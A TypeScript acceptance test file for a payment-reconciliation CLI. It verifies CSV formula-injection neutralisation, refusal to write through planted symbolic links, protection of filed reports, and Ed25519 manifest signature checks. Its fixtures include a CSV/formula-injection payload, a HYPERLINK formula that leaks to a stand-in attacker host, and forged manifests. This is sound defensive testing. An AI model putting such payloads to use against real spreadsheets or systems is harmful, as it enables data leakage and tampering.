import { generateKeyPairSync, randomUUID } from 'node:crypto'
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, truncateSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import * as E from 'fp-ts/lib/Either.js'
import { Pool } from 'pg'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { makePostgresEventStore } from '../../src/adapters/eventstore/postgres.ts'
import type { EventStore } from '../../src/application/ports/event-store.ts'
import { bangkokDateOf, formatCalendarDate } from '../../src/domain/bangkok-time.ts'
import { toStoreMetadata } from '../../src/domain/events/metadata.ts'
import { encodeDomainEvent, eventSourceOf } from '../../src/domain/events/registry.ts'
import { runStreamName, type RunCommand } from '../../src/domain/reconciliation/index.ts'
import { silentLogger } from '../../src/logger.ts'
import { freshDatabase } from '../adapters/http/database.ts'
import { runEventsOf } from '../domain/reconciliation/run-events.ts'
import { MERCHANT_ID } from '../sandbox/support.ts'
import { runCli } from '../support/cli.ts'
import { envWithoutSatangSettings } from '../support/process.ts'

/**
 * Acceptance (issue 22, items 3, 6 and 9): the files `satang report` writes, as a real process over a
 * real database holding a run whose ids and texts a spreadsheet would read as formulas. Writers never
 * follow a symbolic link (a link inside --out, --html at a link, --out as a link, --save-heads at a
 * link: refused, exit 2 naming it, the link's target unchanged in content and mtime), never replace a
 * filed report unless --force; every CSV neutralises formula-like text and keeps numbers numbers; the
 * manifest is signed with the anchor key, so a manifest rewritten consistently fails `report verify`.
 */

let database: Awaited<ReturnType<typeof freshDatabase>>
let pool: Pool
let store: EventStore
let env: NodeJS.ProcessEnv
const cwd = mkdtempSync(join(tmpdir(), 'satang-report-files-'))
const work = join(cwd, 'work')
const outside = join(cwd, 'outside')
const day = formatCalendarDate(bangkokDateOf(new Date()))
const satang = (...args: string[]) => runCli(args, { env, cwd })
const reconciliation = (...args: string[]) => satang('report', 'reconciliation', '--date', day, ...args)

const SECRET = 'a file the report must never touch\n'
const PAST = new Date('2020-01-02T03:04:05.000Z')
/** A file outside the report folder with known content and mtime: the target of the planted links. */
const victim = (name: string): string => {
  const p = join(outside, name)
  writeFileSync(p, SECRET)
  utimesSync(p, PAST, PAST)
  return p
}
const expectUntouched = (p: string): void => {
  expect(readFileSync(p, 'utf8')).toBe(SECRET)
  expect(statSync(p).mtimeMs).toBe(PAST.getTime())
}
const fileState = (p: string): { readonly text: string; readonly mtimeMs: number } => ({ text: readFileSync(p, 'utf8'), mtimeMs: statSync(p).mtimeMs })

/** RFC 4180, enough for what csv-stringify writes: the records, header first. */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i] ?? ''
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"'
        i += 1
      } else if (c === '"') quoted = false
      else cell += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      row.push(cell)
      cell = ''
    } else if (c === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
    } else cell += c
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell])
  return rows
}
const records = (text: string): ReadonlyArray<Record<string, string>> => {
  const [header, ...rows] = parseCsv(text)
  return rows.map((r) => Object.fromEntries((header ?? []).map((h, i) => [h, r[i] ?? ''])))
}

const FORMULA_START = /^[=+\-@\t\r]/
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/
/** Every text cell is neutralised, every cell of `numeric` is a plain number. */
const expectSafeCsv = (text: string, numeric: (column: string) => boolean): void => {
  const [header, ...rows] = parseCsv(text)
  expect(rows.length).toBeGreaterThan(0)
  for (const row of rows) {
    for (const [i, column] of (header ?? []).entries()) {
      const cell = row[i] ?? ''
      if (numeric(column)) expect(cell, `${column} is a number`).toMatch(PLAIN_NUMBER)
      else expect(cell, `${column} ${JSON.stringify(cell)} would start a formula`).not.toMatch(FORMULA_START)
    }
  }
}
const isDaysNumber = (c: string): boolean => !['day', 'verdict', 'run_id', 'reconciled_at', 'reconciled_at_bangkok'].includes(c)
const isBreaksNumber = (c: string): boolean => ['amount_at_stake_satang', 'amount_at_stake', 'age_days'].includes(c)
const isHealedNumber = (c: string): boolean => ['amount_satang', 'amount'].includes(c)

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'

/** A completed run of `day` over items whose ids and texts start as formulas would. */
const hostileRun = (runId: string, at: Date): ReadonlyArray<RunCommand> => {
  const ref = (id: string) => ({ kind: 'payment' as const, id, merchantOrderId: id, merchantRefundId: null, merchantSubscribeId: null, stream: `order-${MERCHANT_ID}-${id}` })
  const breakOf = (id: string, breakId: string, cls: 'amount_mismatch' | 'stale_pending', detail: string, traceId: string) => ({
    checked: { kind: 'payment' as const, id, day, outcome: 'break' as const, breakClass: cls, breakId, amount: 10000n, atStake: 2000n },
    detect: {
      runId,
      breakId,
      class: cls,
      status: 'new' as const,
      item: ref(id),
      day,
      satangView: { amount_satang: '10000' },
      gatewayView: { amount_satang: '12000' },
      amountAtStake: 2000n,
      detail,
      firstSeenAt: at,
      firstSeenRunId: runId,
      detectedAt: at,
      evidence: { traceId, observationKey: null },
    },
    resolve: [],
    healed: null,
  })
  return [
    {
      type: 'StartRun',
      started: {
        runId,
        merchantId: MERCHANT_ID,
        scope: { kind: 'days', from: day, to: day },
        parameters: { concurrency: 16, asOf: at, notFoundGraceMs: 0, stalePendingMs: 0, chargeGraceMs: 0 },
        startedBy: { trigger: 'cli', actor: 'ops' },
        itemsInScope: 4,
        startedAt: at,
      },
    },
    {
      type: 'RecordItems',
      at,
      items: [
        breakOf('-1-1', '-b-1', 'amount_mismatch', HYPERLINK, '\ttrace'),
        breakOf('+66812345678', '=b-2', 'stale_pending', '@SUM(A1:A9)', '\rtrace'),
        { checked: { kind: 'payment', id: '@matched', day, outcome: 'matched', breakClass: null, breakId: null, amount: 5000n, atStake: 0n }, detect: null, resolve: [], healed: null },
        {
          checked: { kind: 'payment', id: '-UNM-2', day, outcome: 'healed', breakClass: null, breakId: null, amount: 10000n, atStake: 0n },
          detect: null,
          resolve: [],
          healed: { runId, item: ref('-UNM-2'), day, from: 'PI', to: 'PS', amount: 10000n, healedAt: at, evidence: { traceId: null, observationKey: null } },
        },
      ],
    },
    { type: 'CompleteRun', days: [day], at: new Date(at.getTime() + 1_000) },
  ]
}

beforeAll(async () => {
  mkdirSync(work)
  mkdirSync(outside)
  database = await freshDatabase('report_files')
  env = envWithoutSatangSettings({ SATANG_DATABASE_URL: database.url, SATANG_LOG_LEVEL: 'warn' })
  const migrated = await satang('migrate')
  expect(migrated.code, migrated.stderr).toBe(0)
  pool = new Pool({ connectionString: database.url, max: 2 })
  store = makePostgresEventStore({ pool, log: silentLogger() }, { schema: 'eventstore' })
  const runId = randomUUID()
  const events = runEventsOf(hostileRun(runId, new Date(Date.now() - 60_000)))
  const appended = await store.append(
    runStreamName(MERCHANT_ID, runId),
    events.map((e) => {
      const s = encodeDomainEvent(e)
      return { eventId: randomUUID(), type: s.type, schemaVersion: s.schemaVersion, data: s.data, metadata: toStoreMetadata({ correlationId: runId, causationId: runId, recordedAt: new Date().toISOString(), source: eventSourceOf(e) }) }
    }),
    'no_stream',
  )()
  expect(E.isRight(appended)).toBe(true)
  const projected = await satang('project', '--rebuild')
  expect(projected.code, projected.stderr).toBe(0)
}, 120_000)

afterAll(async () => {
  await store?.close()
  await pool?.end()
  await database?.drop()
  rmSync(cwd, { recursive: true, force: true })
})

describe('CSV: no cell opens as a formula, numbers stay numbers', () => {
  it('report reconciliation --csv: breaks.csv, healed.csv and days.csv neutralise ids and texts starting with =, +, -, @, tab, CR', async () => {
    const dir = join(work, 'csv')
    const r = await reconciliation('--csv', dir)
    expect(r.code, r.stderr).toBe(0)
    const breaksText = readFileSync(join(dir, 'breaks.csv'), 'utf8')
    const breaks = records(breaksText)
    const b1 = breaks.find((b) => b['merchant_order_id'] === "'-1-1")
    expect(b1).toMatchObject({ break_id: "'-b-1", item_id: "'-1-1", detail: `'${HYPERLINK}`, trace_id: "'\ttrace", amount_at_stake_satang: '2000', amount_at_stake: '20.00' })
    const b2 = breaks.find((b) => b['merchant_order_id'] === "'+66812345678")
    expect(b2).toMatchObject({ break_id: "'=b-2", detail: "'@SUM(A1:A9)", trace_id: "'\rtrace", amount_at_stake_satang: '2000' })
    expectSafeCsv(breaksText, isBreaksNumber)

    const healedText = readFileSync(join(dir, 'healed.csv'), 'utf8')
    expect(records(healedText)).toEqual([expect.objectContaining({ item_id: "'-UNM-2", amount_satang: '10000', amount: '100.00', from_status: 'PI' })])
    expectSafeCsv(healedText, isHealedNumber)

    const daysText = readFileSync(join(dir, 'days.csv'), 'utf8')
    expect(records(daysText)[0]).toMatchObject({ day, breaks_count: '2', breaks_satang: '20000', matched_count: '1', healed_satang: '10000' })
    expectSafeCsv(daysText, isDaysNumber)
  })

  it('report reconciliation --out: the CSV files of a filed report are neutralised too', async () => {
    const dir = join(work, 'out-csv')
    const r = await reconciliation('--out', dir)
    expect(r.code, r.stderr).toBe(0)
    expectSafeCsv(readFileSync(join(dir, 'breaks.csv'), 'utf8'), isBreaksNumber)
    expectSafeCsv(readFileSync(join(dir, 'healed.csv'), 'utf8'), isHealedNumber)
    expectSafeCsv(readFileSync(join(dir, 'days.csv'), 'utf8'), isDaysNumber)
    expect(readFileSync(join(dir, 'breaks.csv'), 'utf8')).toContain("'-1-1")
  })
})

describe('report writers never follow a symbolic link', () => {
  it('a link inside --out is refused (exit 2, named); its target keeps its content and mtime; nothing is filed', async () => {
    const dir = join(work, 'link-inside')
    mkdirSync(dir)
    const target = victim('inside-target.txt')
    symlinkSync(target, join(dir, 'report.html'))
    const r = await reconciliation('--out', dir)
    expect(r.code).toBe(2)
    expect(r.stderr).toContain(`refused to write ${JSON.stringify(join(dir, 'report.html'))}: is a symbolic link`)
    expectUntouched(target)
    expect(existsSync(join(dir, 'manifest.json'))).toBe(false)
    // --force replaces a filed report, never through a link
    const forced = await reconciliation('--out', dir, '--force')
    expect(forced.code).toBe(2)
    expect(forced.stderr).toContain('is a symbolic link')
    expectUntouched(target)
  })

  it('a link at a CSV name inside --csv is refused; its target is untouched', async () => {
    const dir = join(work, 'csv-link')
    mkdirSync(dir)
    const target = victim('csv-target.txt')
    symlinkSync(target, join(dir, 'breaks.csv'))
    const r = await reconciliation('--csv', dir)
    expect(r.code).toBe(2)
    expect(r.stderr).toContain(`refused to write ${JSON.stringify(join(dir, 'breaks.csv'))}: is a symbolic link`)
    expectUntouched(target)
  })

  it('--html FILE at a link is refused (exit 2, named); its target is untouched', async () => {
    const target = victim('html-target.txt')
    const file = join(work, 'at-link.html')
    symlinkSync(target, file)
    const r = await reconciliation('--html', file)
    expect(r.code).toBe(2)
    expect(r.stderr).toContain(`refused to write ${JSON.stringify(file)}: is a symbolic link`)
    expectUntouched(target)
    // a dangling link is refused too: the write would create its target
    const dangling = join(work, 'dangling.html')
    symlinkSync(join(outside, 'created-by-link.html'), dangling)
    const d = await reconciliation('--html', dangling)
    expect(d.code).toBe(2)
    expect(existsSync(join(outside, 'created-by-link.html'))).toBe(false)
    // a plain file is written (through a temporary file renamed into place)
    const plain = join(work, 'plain.html')
    const ok = await reconciliation('--html', plain)
    expect(ok.code, ok.stderr).toBe(0)
    expect(readFileSync(plain, 'utf8')).toMatch(/^<!doctype html>/i)
    expect(readdirSync(work).filter((n) => n.endsWith('.tmp'))).toEqual([])
  })

  it('--out DIR that is itself a link to a folder is refused; the folder stays empty', async () => {
    const real = join(outside, 'real-folder')
    mkdirSync(real)
    const link = join(work, 'folder-link')
    symlinkSync(real, link)
    const r = await reconciliation('--out', link)
    expect(r.code).toBe(2)
    expect(r.stderr).toContain(`refused to write ${JSON.stringify(link)}: is a symbolic link`)
    expect(readdirSync(real)).toEqual([])
  })

  it('audit verify --save-heads FILE at a link is refused; its target is untouched', async () => {
    const target = victim('heads-target.txt')
    const file = join(work, 'heads.json')
    symlinkSync(target, file)
    const r = await satang('audit', 'verify', '--save-heads', file)
    expect(r.code).toBe(2)
    expect(r.stderr).toContain(`refused to write ${JSON.stringify(file)}: is a symbolic link`)
    expectUntouched(target)
  })
})

describe('a filed report is never replaced silently', () => {
  it('--out on a folder that holds a manifest is refused (exit 2, named) and the report stays as filed; --force replaces it', async () => {
    const dir = join(work, 'filed')
    const first = await reconciliation('--out', dir)
    expect(first.code, first.stderr).toBe(0)
    const before = Object.fromEntries(readdirSync(dir).map((n) => [n, fileState(join(dir, n))]))
    const again = await reconciliation('--out', dir)
    expect(again.code).toBe(2)
    expect(again.stderr).toContain(`refused to write ${JSON.stringify(dir)}: holds a filed report (manifest.json)`)
    expect(again.stderr).toContain('--force')
    expect(Object.fromEntries(readdirSync(dir).map((n) => [n, fileState(join(dir, n))]))).toEqual(before)
    // --csv and --html into the filed folder would alter it too
    const csv = await reconciliation('--csv', dir)
    expect(csv.code).toBe(2)
    expect(csv.stderr).toContain('holds a filed report')
    const html = await reconciliation('--html', join(dir, 'report.html'))
    expect(html.code).toBe(2)
    expect(Object.fromEntries(readdirSync(dir).map((n) => [n, fileState(join(dir, n))]))).toEqual(before)

    const forced = await reconciliation('--out', dir, '--force')
    expect(forced.code, forced.stderr).toBe(0)
    expect(readFileSync(join(dir, 'manifest.json'), 'utf8')).not.toBe(before['manifest.json']?.text)
    const verified = await satang('report', 'verify', dir)
    expect(verified.code, verified.stderr).toBe(0)
    expect(readdirSync(dir).filter((n) => n.endsWith('.tmp'))).toEqual([])
  })
})

describe('the manifest is signed with the anchor key', () => {
  const filed = join(work, 'signed')
  const copy = (name: string): string => {
    const dir = join(work, name)
    cpSync(filed, dir, { recursive: true })
    return dir
  }
  type Manifest = { format: string; files: Array<{ name: string; sha256: string; bytes: number }>; signature?: unknown }
  const readManifest = (dir: string): Manifest => JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8')) as Manifest
  const writeManifest = (dir: string, m: Manifest): void => writeFileSync(join(dir, 'manifest.json'), `${JSON.stringify(m, null, 2)}\n`)
  const sha256 = async (data: Buffer): Promise<string> => (await import('node:crypto')).createHash('sha256').update(data).digest('hex')

  beforeAll(async () => {
    const r = await reconciliation('--out', filed)
    expect(r.code, r.stderr).toBe(0)
  })

  it('--out writes manifest.sig; verify checks it (also elsewhere, with --key anchor-public.pem)', async () => {
    expect(readdirSync(filed).sort()).toEqual(['breaks.csv', 'days.csv', 'healed.csv', 'manifest.json', 'manifest.sig', 'report.html', 'report.json', 'report.txt'])
    const m = readManifest(filed)
    expect(m.format).toBe('satang-report-manifest-v2')
    expect(m.signature).toMatchObject({ algorithm: 'ed25519', file: 'manifest.sig' })
    const ok = await satang('report', 'verify', filed)
    expect(ok.code, ok.stderr).toBe(0)
    expect(ok.stdout).toMatch(/signature: valid \(Ed25519, anchor key [0-9a-f]{16}\)/)
    // an auditor's machine: no data folder, the public key given
    const elsewhere = mkdtempSync(join(tmpdir(), 'satang-auditor-'))
    const there = await runCli(['report', 'verify', filed, '--key', join(cwd, '.satang', 'anchor-public.pem'), '--json'], { env: envWithoutSatangSettings(), cwd: elsewhere })
    expect(there.code, there.stderr).toBe(0)
    expect(JSON.parse(there.stdout)).toMatchObject({ valid: true, signature: { status: 'valid' } })
    const noKey = await runCli(['report', 'verify', filed], { env: envWithoutSatangSettings(), cwd: elsewhere })
    expect(noKey.code).toBe(2)
    expect(noKey.stderr).toMatch(/no anchor key was found .*--key/)
  })

  it('a manifest rewritten with its SHA-256 lines recomputed fails verify on its signature (exit 1)', async () => {
    const dir = copy('rewritten')
    const forged = Buffer.from(readFileSync(join(dir, 'report.txt'), 'utf8').replace(/./, 'X'))
    writeFileSync(join(dir, 'report.txt'), forged)
    const m = readManifest(dir)
    const entry = m.files.find((f) => f.name === 'report.txt')
    if (entry === undefined) throw new Error('report.txt is not in the manifest')
    entry.sha256 = await sha256(forged)
    entry.bytes = forged.length
    writeManifest(dir, m)
    const r = await satang('report', 'verify', dir)
    expect(r.code).toBe(1)
    expect(r.stderr).toMatch(/BAD SIGNATURE manifest\.json: the signature of manifest\.json by anchor key [0-9a-f]{16} does not verify: the manifest was rewritten/)
    // every SHA-256 line is consistent: only the signature shows it
    expect(r.stderr).not.toContain('ALTERED')
  })

  it('a removed signature, a downgrade to an unsigned manifest, or another key: each refused (exit 1)', async () => {
    const removed = copy('sig-removed')
    unlinkSync(join(removed, 'manifest.sig'))
    const r1 = await satang('report', 'verify', removed)
    expect(r1.code).toBe(1)
    expect(r1.stderr).toMatch(/BAD SIGNATURE manifest\.json: manifest\.sig is missing/)

    const downgraded = copy('downgraded')
    unlinkSync(join(downgraded, 'manifest.sig'))
    const m = readManifest(downgraded)
    delete m.signature
    writeManifest(downgraded, { ...m, format: 'satang-report-manifest-v1' })
    const r2 = await satang('report', 'verify', downgraded)
    expect(r2.code).toBe(1)
    expect(r2.stderr).toMatch(/UNSIGNED manifest\.json: format satang-report-manifest-v1 carries no signature/)
    // an old, unsigned report is still checkable, and said to be unsigned
    const old = await satang('report', 'verify', downgraded, '--allow-unsigned')
    expect(old.code, old.stderr).toBe(0)
    expect(old.stdout).toMatch(/UNSIGNED: manifest\.json carries no signature .*only the manifest SHA-256 filed with the report shows it was not rewritten/)
    expect(old.stdout).toMatch(/valid: 6 files match manifest\.json/)

    const other = join(outside, 'other-public.pem')
    writeFileSync(other, generateKeyPairSync('ed25519').publicKey.export({ type: 'spki', format: 'pem' }).toString())
    const r3 = await satang('report', 'verify', filed, '--key', other)
    expect(r3.code).toBe(1)
    expect(r3.stderr).toMatch(/the manifest is signed by key [0-9a-f]{16}, not by the anchor key [0-9a-f]{16}/)
  })
})

describe('report verify reads a folder from elsewhere within bounds', () => {
  const filed = join(work, 'bounded')
  beforeAll(async () => {
    const r = await reconciliation('--out', filed)
    expect(r.code, r.stderr).toBe(0)
  })

  it('a manifest.json larger than 16 MiB is refused before it is read, naming its size and the limit (exit 2)', async () => {
    const dir = join(work, 'huge-manifest')
    cpSync(filed, dir, { recursive: true })
    // Sparse: 17 MiB of zeros that take no room.
    truncateSync(join(dir, 'manifest.json'), 17 * 1024 * 1024)
    const r = await satang('report', 'verify', dir)
    expect(r.code).toBe(2)
    expect(r.stderr).toContain(`${join(dir, 'manifest.json')} is 17 MiB, more than the 16 MiB satang reads of it: it is not a manifest satang wrote`)
  })

  it('a listed file of more than 2 GiB is hashed as it streams in: reported ALTERED like any other (exit 1), not a failure of the command', async () => {
    // Read whole, a file this large cannot even be held in one buffer (Node refuses files over 2 GiB).
    // That files are hashed right is shown by every other verify here, through the same code.
    const dir = join(work, 'huge-listed')
    cpSync(filed, dir, { recursive: true })
    unlinkSync(join(dir, 'manifest.sig'))
    const big = join(dir, 'big.bin')
    const size = 2 * 1024 * 1024 * 1024 + 4096
    writeFileSync(big, '')
    truncateSync(big, size)
    const m = JSON.parse(readFileSync(join(dir, 'manifest.json'), 'utf8')) as { format: string; signature?: unknown; files: Array<{ name: string; sha256: string; bytes: number }> }
    delete m.signature
    const listed = { ...m, format: 'satang-report-manifest-v1', files: [...m.files, { name: 'big.bin', sha256: '0'.repeat(64), bytes: size }] }
    writeFileSync(join(dir, 'manifest.json'), `${JSON.stringify(listed, null, 2)}\n`)
    const r = await satang('report', 'verify', dir, '--allow-unsigned')
    unlinkSync(big)
    expect(r.code, r.stderr).toBe(1)
    expect(r.stderr).toMatch(/ALTERED big\.bin: manifest SHA-256 0{64}, file [0-9a-f]{64}/)
    expect(r.stdout + r.stderr).not.toMatch(/ALTERED (?!big\.bin)/)
  })
})

describe('report ledger --csv', () => {
  it('a channel that starts as a formula is neutralised; debits, credits and negative balances stay numbers', async () => {
    const eventId = randomUUID()
    for (const [line, account, debit, credit] of [
      [1, 'gateway_receivable', 1000, 0],
      [2, 'sales', 0, 1000],
    ] as const) {
      await pool.query(
        `insert into satang.ledger_entries (event_id, line, global_position, stream_name, posting_kind, merchant_id, merchant_order_id, account, channel, currency, debit_satang, credit_satang,
           posted_at, posting_date_bangkok, recorded_at, description, entry_kind, rule_version, fact_date_bangkok)
         values ($1, $2, '99999999999999999999-00000000000000000001', 'order-x', 'order_paid', $3, '-1-1', $4, '-1+1', 'THB', $5, $6, now(), current_date, now(), 'x', 'posting', 1, current_date)`,
        [eventId, line, MERCHANT_ID, account, debit, credit],
      )
    }
    const r = await satang('report', 'ledger', '--csv')
    expect(r.code, r.stderr).toBe(0)
    const lines = r.stdout.trim().split('\n')
    expect(lines).toContain(`gateway_receivable,debit,"'-1+1",THB,1000,0,1000,10.00,0.00,10.00`)
    expect(lines).toContain(`sales,credit,"'-1+1",THB,0,1000,-1000,0.00,10.00,-10.00`)
    expectSafeCsv(r.stdout, (c) => /satang$|^(debit|credit|balance)$/.test(c))
  })
})
